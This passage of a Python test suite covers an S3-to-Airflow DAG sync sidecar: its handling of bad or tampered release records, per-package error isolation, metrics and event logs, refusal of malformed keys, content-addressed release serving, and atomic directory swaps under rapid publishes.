        assert "outside the years 1-9999" in invalid[f"{ENV}/overflow/dags/overflow_date.json"]
        errors = {e["package"]: e for e in side.events("error")}
        assert sorted(errors) == sorted(reasons)
        for package, reason in reasons.items():
            assert errors[package]["kind"] == "record" and reason in errors[package]["error"]
        assert not any(k.startswith(("badversion/", "negsize/", "noise/")) for k in side.served())
        assert side.metric("dagsync_errors_total", kind="record") == 3
        assert side.cycle().complete  # and again, from the cached records
        side.reconciler.close()

    def test_a_bad_record_keeps_the_last_applied_release(self, world, dags):
        """A package whose record turns bad keeps serving its last applied release, whole."""
        files = {"demo_a.json": manifest("demo", "a")}
        world.release("demo", files)
        side = Sidecar(world, dags)
        side.cycle()
        before = side.served()
        world.put(f"{ENV}/demo/metadata.json", _tampered_record(world, "demo", files, size=True))
        report = side.cycle()
        assert report.complete and side.served() == before
        assert "size must be an integer" in side.events("error")[-1]["error"]
        side.reconciler.close()

    def test_an_unexpected_exception_fails_only_its_package(self, world, dags):
        """A crash planning one package (here: a corrupt cached record in the state file) is that package's
        error, kind "package": it keeps its files, the others are served, the cycle is complete."""
        world.release("demo", {"demo_a.json": manifest("demo", "a")})
        world.release("other", {"other_a.json": manifest("other", "a")})
        side = Sidecar(world, dags)
        side.cycle()
        side.reconciler.close()
        state_file = dags / ".dagfactory-sync" / STATE_FILE
        state = json.loads(state_file.read_bytes())
        state["records"]["demo"][1] = 42  # not the record text: reading it raises AttributeError
        state_file.write_text(json.dumps(state))
        world.release(
            "other", {"other_a.json": manifest("other", "a"), "other_b.json": manifest("other", "b")}
        )
        side = Sidecar(world, dags)
        report = side.cycle()
        assert report.complete and not report.unservable
        assert "other/dags/other_b.json" in side.served() and "demo/dags/demo_a.json" in side.served()
        error = side.events("error")[-1]
        assert error["kind"] == "package" and error["package"] == "demo" and error["stage"] == "plan"
        assert "AttributeError" in error["error"]
        assert side.metric("dagsync_errors_total", kind="package") == 1
        assert all(e.get("kind") != "internal" for e in side.events())
        side.reconciler.close()


class TestObservability:
    def test_metrics_count_outcomes(self, s3, world, sidecar):
        """Cycle outcomes, downloads, listed objects and the applied release are exported."""
        world.examples()
        sidecar.cycle()
        sidecar.cycle()
        assert sidecar.metric("dagsync_cycles_total", status="success") == 1
        assert sidecar.metric("dagsync_cycles_total", status="noop") == 1
        assert sidecar.metric("dagsync_objects_downloaded_total") == 4
        assert sidecar.metric("dagsync_objects_listed") == 7
        assert sidecar.metric("dagsync_dags_served") == 3
        assert sidecar.metric("dagsync_release_info", package="reporting_seeder", release_id="r1") == 1
        assert sidecar.metric("dagsync_last_success_timestamp_seconds") > 0

    def test_every_change_is_one_json_line(self, world, sidecar):
        """Each add/delete is one JSON object with event, package and path."""
        world.mirror("demo", {"demo_a.json": manifest("demo", "a")})
        sidecar.cycle()
        world.delete(f"{ENV}/demo/dags/demo_a.json")
        world.mirror("demo", {"demo_b.json": manifest("demo", "b")})
        sidecar.cycle()
        events = [(e["event"], e.get("path")) for e in sidecar.events() if e["event"] != "cycle"]
        assert events == [
            ("add", "demo/dags/demo_a.json"),
            ("add", "demo/dags/demo_a.py"),
            ("add", "demo/dags/demo_b.json"),
            ("add", "demo/dags/demo_b.py"),
            ("delete", "demo/dags/demo_a.py"),
            ("delete", "demo/dags/demo_a.json"),
        ]


def test_state_lives_where_airflow_never_imports(world, sidecar, dags):
    """The state file is JSON under a dot-directory: not .py and never a zip, so Airflow skips it."""
    import zipfile

    world.examples()
    sidecar.cycle()
    state = dags / ".dagfactory-sync" / STATE_FILE
    assert json.loads(state.read_bytes())["format"] == "dagfactory-s3/sync-state@1"
    assert not zipfile.is_zipfile(state)
    python = sorted(str(p.relative_to(dags)) for p in dags.rglob("*.py"))
    assert python == [k for k in sorted(expected_examples()) if k.endswith(".py")]


def test_copy_of_examples_is_not_mutated():
    """Helpers never modify the example files (guards the manifest() helper)."""
    before = copy.deepcopy(example_files())
    manifest("demo", "a", description="x")
    assert example_files() == before


@pytest.mark.parametrize("suffix", ["\n", "\r\n", "\x00"])
def test_keys_with_trailing_control_characters_are_refused(suffix):
    """A key ending in a newline (S3 allows it; a regex `$` would not notice) is refused, not served."""
    from dagfactory_s3.serve.rules import classify_key

    verdict = classify_key(ENV, f"{ENV}/demo/dags/demo_x.json{suffix}")
    assert verdict.kind == "refuse" and "characters outside" in verdict.reason


# -- immutable releases: what the sidecar trusts ------------------------------------------------


def served_sources(side: Sidecar) -> dict[str, bytes]:
    return {k: unstamped(v) for k, v in side.served().items() if k.endswith(".json")}


def publish_dir(world: World, src: Path, package: str) -> int:
    """The real publisher, in-process (the s3 fixture points AWS_* at the proxy)."""
    from dagfactory_s3.publisher import cli

    world.published |= {p.read_bytes() for p in src.glob("*.json")}  # what the watcher may see
    argv = ["publish", "--bucket", world.bucket, "--environment", ENV, "--package-name", package]
    return cli.main([*argv, "--dag-path", str(src)])


def write_package(src: Path, package: str, names: str, description: str = "v1") -> dict[str, bytes]:
    src.mkdir(parents=True, exist_ok=True)
    files = {f"{package}_{n}.json": manifest(package, n, description=description) for n in names}
    for name, data in files.items():
        (src / name).write_bytes(data)
    return files


class TestImmutableReleases:
    def test_release_is_served_from_content_objects_never_the_readable_copies(
        self, s3, world, tmp_path, dags
    ):
        """Readable dags/ copies overwritten in S3 change nothing: the sidecar fetches content by sha256."""
        files = write_package(tmp_path / "src", "demo", "ab")
        assert publish_dir(world, tmp_path / "src", "demo") == 0
        for name in files:  # someone (or a 0.1 publisher mid-flight) rewrites the readable copies
            world.put(f"{ENV}/demo/dags/{name}", manifest("demo", name[5:-5], description="tampered"))
        side = Sidecar(world, dags)
        s3.clear()
        report = side.cycle()
        assert report.complete and not report.unservable
        assert served_sources(side) == {f"demo/dags/{n}": d for n, d in files.items()}
        gets = [r.path for r in s3.requests if r.method == "GET" and r.kind == "GET"]
        assert gets and all("/_releases/objects/" in p or p.endswith("/metadata.json") for p in gets)
        side.reconciler.close()

    def test_package_without_a_record_serves_nothing_by_default(self, world, tmp_path, dags):
        """DAG files with no metadata.json (a publish that never committed, a hand upload): not served,
        logged once, counted; a released package beside it is served and the cycle is complete."""
        world.mirror("plain", {"plain_a.json": manifest("plain", "a")})
        write_package(tmp_path / "src", "demo", "a")
        assert publish_dir(world, tmp_path / "src", "demo") == 0
        side = Sidecar(world, dags)
        for _ in range(2):
            report = side.cycle()
            assert report.complete and not report.unservable
        assert sorted(side.served()) == ["demo/dags/demo_a.json", "demo/dags/demo_a.py"]
        refusals = [e for e in side.events("refuse") if e["kind"] == "unreleased"]
        assert len(refusals) == 1 and refusals[0]["package"] == "plain"
        assert side.metric("dagsync_objects_refused_total", reason="unreleased") == 1
        side.reconciler.close()

    def test_content_uploaded_without_a_commit_is_invisible(self, world, tmp_path, dags):
        """Content objects of an interrupted first publish (no record) reach no folder."""
        data = manifest("demo", "a")
        world.put(f"{ENV}/demo/_releases/objects/{hashlib.sha256(data).hexdigest()}", data)
        side = Sidecar(world, dags)
        assert side.cycle().complete and side.served() == {}
        side.reconciler.close()

    def test_a_missing_content_object_keeps_the_old_release_and_is_unservable(self, world, tmp_path, dags):
        """If a content object the record names disappears (by hand), the last applied release stays,
        whole, and the cycle reports the package unservable (so --once fails)."""
        src = tmp_path / "src"
        v1 = write_package(src, "demo", "ab")
        assert publish_dir(world, src, "demo") == 0
        side = Sidecar(world, dags)
        assert not side.cycle().unservable
        v2 = write_package(src, "demo", "ab", description="v2")
        assert publish_dir(world, src, "demo") == 0
        rec = json.loads(
            world.client.get_object(Bucket=world.bucket, Key=f"{ENV}/demo/metadata.json")["Body"].read()
        )
        assert rec["files"]["dags/demo_a.json"]["unstamped"] == hashlib.sha256(v2["demo_a.json"]).hexdigest()
        world.delete(f"{ENV}/demo/_releases/objects/{rec['files']['dags/demo_a.json']['sha256']}")
        report = side.cycle()
        assert report.unservable == ["demo"] and report.complete
        assert served_sources(side) == {f"demo/dags/{n}": d for n, d in v1.items()}
        assert side.events("error")[-1]["kind"] == "content_missing"
        side.reconciler.close()


class SnapshotWatcher(threading.Thread):
    """Reads ``<package>/dags/`` as a careful reader does: one directory handle per snapshot, every
    file opened relative to it, kept only when that directory is still the live one afterwards -- so
    a snapshot is one directory version, whatever is swapped meanwhile."""

    def __init__(self, live: Path) -> None:
        super().__init__(daemon=True)
        self.live = live
        self.snapshots: list[frozenset[tuple[str, bytes]]] = []
        self.stop = threading.Event()

    def snapshot(self) -> frozenset[tuple[str, bytes]] | None:
        try:
            fd = os.open(self.live, os.O_RDONLY | os.O_DIRECTORY)
        except FileNotFoundError:
            return frozenset()
        try:
            out = set()
            for name in os.listdir(fd):
                if name.endswith(".json"):
                    try:
                        handle = os.open(name, os.O_RDONLY, dir_fd=fd)
                    except FileNotFoundError:
                        return None  # this directory was swapped out and is being removed: look again
                    with os.fdopen(handle, "rb") as f:
                        out.add((name, f.read()))
            try:  # still the live directory? Else it was swapped out while being read: look again
                live = os.stat(self.live).st_ino == os.fstat(fd).st_ino
            except FileNotFoundError:
                live = False
            return frozenset(out) if live else None
        finally:
            os.close(fd)

    def run(self) -> None:
        while not self.stop.is_set():
            snap = self.snapshot()
            if snap is not None and (not self.snapshots or snap != self.snapshots[-1]):
                self.snapshots.append(snap)
            time.sleep(0.002)


@pytest.mark.slow
def test_back_to_back_publishes_never_show_a_mixed_release(s3, world, tmp_path, monkeypatch):
    """100 back-to-back publishes of a changing package (every DAG edited, one added or removed each
    time) while a sidecar runs: every directory state a reader sees is exactly one committed release."""
    monkeypatch.setenv("AWS_ENDPOINT_URL", s3.upstream)  # straight to moto: no proxy thread in this process
    src, root = tmp_path / "src", tmp_path / "dags"
    side = Sidecar(world, root)
    committed: set[frozenset[tuple[str, bytes]]] = {frozenset()}
    running, cycles = threading.Event(), [0]

    def loop() -> None:
        while not running.wait(0.05):  # a sidecar with a 50 ms interval
            side.reconciler.cycle()
            cycles[0] += 1

    watcher = SnapshotWatcher(root / "busy" / "dags")
    sidecar_thread = threading.Thread(target=loop, daemon=True)
    watcher.start()
    sidecar_thread.start()
    try:
        for version in range(100):
            shutil.rmtree(src, ignore_errors=True)
            names = [f"{i:02d}" for i in range(version % 3, 6 + version % 2)]
            files = write_package(src, "busy", names, description=f"v{version}")
            assert publish_dir(world, src, "busy") == 0
            committed.add(frozenset(files.items()))
            time.sleep(0.01 * (version % 4))  # sometimes faster than a cycle, sometimes slower
        time.sleep(0.3)
    finally:
        running.set()
        sidecar_thread.join(30)
        watcher.stop.set()
        watcher.join(10)
        side.reconciler.close()
    snapshots = [frozenset((n, unstamped(d)) for n, d in snap) for snap in watcher.snapshots]
    mixed = [snap for snap in snapshots if snap not in committed]
    assert mixed == [], f"{len(mixed)} mixed states, e.g. {sorted(n for n, _ in mixed[0])}"
    first = next(i for i, snap in enumerate(snapshots) if snap)
    assert frozenset() not in snapshots[first:], "the package vanished between two releases"
    assert len(snapshots) > 20 and cycles[0] > 20
    assert snapshots[-1] == frozenset(files.items())
